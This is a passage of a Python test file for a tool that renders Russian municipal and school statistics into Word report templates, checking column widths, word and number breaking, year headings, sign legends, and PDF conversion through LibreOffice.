    )
    path = change_part(
        tmp_path / "x.docx", "word/document.xml", "<w:body>", f"<w:body><w:tbl>{rows}</w:tbl>"
    )
    first = next(Document(BytesIO(press_here(path))).element.body.iter(f"{W}tbl"))
    told = [
        [etree.QName(one).localname for one in paragraph.iterfind(f"{W}pPr/*")]
        for paragraph in first.iter(f"{W}p")
    ]
    assert told == [["keepNext"], ["pStyle", "keepNext"], ["keepNext"], []]


@needs_office
def test_documents_open_in_another_program(tmp_path: Path) -> None:
    assert SOFFICE is not None
    files = []
    for name in TEMPLATES:
        path = tmp_path / name
        path.write_bytes(press(name, school_context()))
        files.append(str(path))
    profile = (tmp_path / "profile").as_uri()
    subprocess.run(
        [
            *(SOFFICE, f"-env:UserInstallation={profile}", "--headless", "--convert-to", "pdf"),
            *("--outdir", str(tmp_path), *files),
        ],
        check=True,
        capture_output=True,
        timeout=300,
        env={**os.environ, "HOME": str(tmp_path)},
    )
    for name in TEMPLATES:
        content = (tmp_path / name).with_suffix(".pdf").read_bytes()
        assert content.count(b"/Type/Page") + content.count(b"/Type /Page") > 1


def columns_of(table: Any) -> list[tuple[int, list[str]]]:
    """The columns of a table: the width, and the lines of the cells that stand in it alone."""
    columns = [(int(each.get(f"{W}w")), list[str]()) for each in table.find(f"{W}tblGrid")]
    for row in table.findall(f"{W}tr"):
        at = 0
        for cell in row.findall(f"{W}tc"):
            span = cell.find(f"{W}tcPr/{W}gridSpan")
            taken = 1 if span is None else int(span.get(f"{W}val"))
            if taken == 1:
                columns[at][1].extend(text_of(cell).split("\n"))
            at += taken
    return columns


def graded(title: str, points: float) -> pl.DataFrame:
    """The results of the small town, all of one class."""
    classes = {"class": pl.lit("low"), "class_title": pl.lit(title), "points": pl.lit(points)}
    return frame().with_columns(**classes)


@pytest.mark.parametrize("title", ["средняя", "недостаточная", "менее 10 %"])
@pytest.mark.parametrize("template", ["note.docx", "school.docx"])
def test_a_class_under_a_value_breaks_no_word(template: str, title: str) -> None:
    rows = graded(title, 2.5)
    context = town_context if template == "note.docx" else school_context
    page = press(template, context(results=rows, years=YEARS[-1:]))
    checked = 0
    for table in Document(BytesIO(page)).element.body.iter(f"{W}tbl"):
        for width, lines in columns_of(table):
            if not any(title in line.replace("\u00a0", " ") for line in lines):
                continue
            longest = max(len(word) for line in lines for word in re.split(r"[ \n]", line))
            assert longest * _LETTER + _MARGINS <= width
            checked += 1
    assert checked


def test_a_short_class_stands_in_a_line_where_a_table_has_room() -> None:
    rows = graded("менее 10 %", 0)
    indicators = {name: replace(each, targets={}) for name, each in CATALOGUE.indicators.items()}
    catalogue = replace(CATALOGUE, indicators=indicators)
    page = press("note.docx", town_context(catalogue, results=rows, years=YEARS[-1:]))
    widths = [
        width
        for table in Document(BytesIO(page)).element.body.iter(f"{W}tbl")
        for width, lines in columns_of(table)
        if any("менее" in line for line in lines)
    ]
    assert widths
    assert min(widths) >= len("менее 10 %,") * _LETTER + _MARGINS


def test_an_academic_year_over_a_column_is_broken_between_words() -> None:
    page = pressed("michurinsk", "note.docx", None)
    first = next(Document(BytesIO(page)).element.body.iter(f"{W}tbl"))
    heading = [lines[:2] for _width, lines in columns_of(first)][-3:]
    assert heading == [[f"{year}–{year + 1}", "учебный год"] for year in (2021, 2022, 2023)]
    for width, lines in columns_of(first)[-3:]:
        assert len(lines[0]) * _LETTER + _MARGINS <= width


_DIGIT, _SPACE = 115, 60  # twips, as printed by the widest font that Times is replaced by


@pytest.mark.parametrize("value", [1260.5, 20963.0, 1234567.8])
@pytest.mark.parametrize("years", [(2023,), (2022, 2023), (2021, 2022, 2023)])
@pytest.mark.parametrize("template", ["note.docx", "tables.docx"])
def test_a_table_of_several_years_breaks_no_number(
    template: str, years: tuple[int, ...], value: float
) -> None:
    number = filters.number(value, 1)
    last = frame().filter(pl.col("year") == YEARS[-1])
    results = pl.concat(
        last.with_columns(
            year=pl.lit(year, dtype=last.schema["year"]),
            value=pl.when(pl.col("value").is_not_null()).then(value),
        )
        for year in years
    )
    page = press(template, town_context(results=results, years=years))
    checked = 0
    for table in Document(BytesIO(page)).element.body.iter(f"{W}tbl"):
        for width, lines in columns_of(table):
            for word in (word for line in lines for word in line.split(" ")):
                digits = sum(sign.isdigit() for sign in word)
                if digits and digits + sum(sign in "\u00a0," for sign in word) == len(word):
                    assert digits * _DIGIT + (len(word) - digits) * _SPACE + _MARGINS <= width
                    checked += word == number
    assert checked >= len(years)


@pytest.mark.parametrize("name", ["berezniki", "michurinsk"])
def test_what_the_widest_column_cannot_give_comes_from_all_that_have_more(name: str) -> None:
    page = pressed(name, "tables.docx", None)
    for table in Document(BytesIO(page)).element.body.iter(f"{W}tbl"):
        for width, lines in columns_of(table):
            words = [word for line in lines for word in re.split("[ -]|(?<=[–—])", line)]
            letters = [len(re.sub(r"\W", "", word)) for word in words]
            signs = [len(word) - count for word, count in zip(words, letters, strict=True)]
            pairs = zip(letters, signs, strict=True)
            assert max(a * _LETTER + b * _SPACE for a, b in pairs) + _MARGINS <= width


def test_a_share_of_some_places_is_not_printed_as_a_share_of_all() -> None:
    """«10 of 100, only where 100 ≥ 30» says of a sum what is said of each place: it is left out."""
    known = shown("absence")
    results = compute_results(known.catalogue, known.data, Asking((2023,)))
    with use_language("en"):
        report = open_report(
            known.catalogue, known.data, results.frame, (2023,), date=date(2025, 2, 3)
        )
        rows = tables(press("tables.docx", report.context(), known.catalogue))
    text = "\n".join(cell for table in rows for row in table for cell in row)
    assert "only" not in text.replace("only for", "")
    assert set_type("4 of 8") in text


@pytest.mark.parametrize("name", ["berezniki", "michurinsk"])
def test_a_note_explains_the_signs_that_stand_in_it_and_no_others(name: str) -> None:
    page = pressed(name, "note.docx", None)
    text = "\n".join(paragraphs(page)).replace("\u00a0", " ")
    cells = {cell for table in tables(page) for row in table for cell in row}
    listed = re.search(r"Знаки в таблицах: (.*)\.", text)
    told = re.findall(r"(\S+) — ", listed[1]) if listed else []
    assert set(told) == cells & set(filters.SIGNS.values())


def test_the_years_of_a_failed_check_are_printed_as_years_of_the_catalogue() -> None:
    for template in ("note.docx", "tables.docx"):
        text = "\n".join(paragraphs(pressed("michurinsk", template, None))).replace("\u00a0", " ")
        assert "Школа № 4 (демо) (2022–2023 учебный год)" in text
        assert "(2022)" not in text
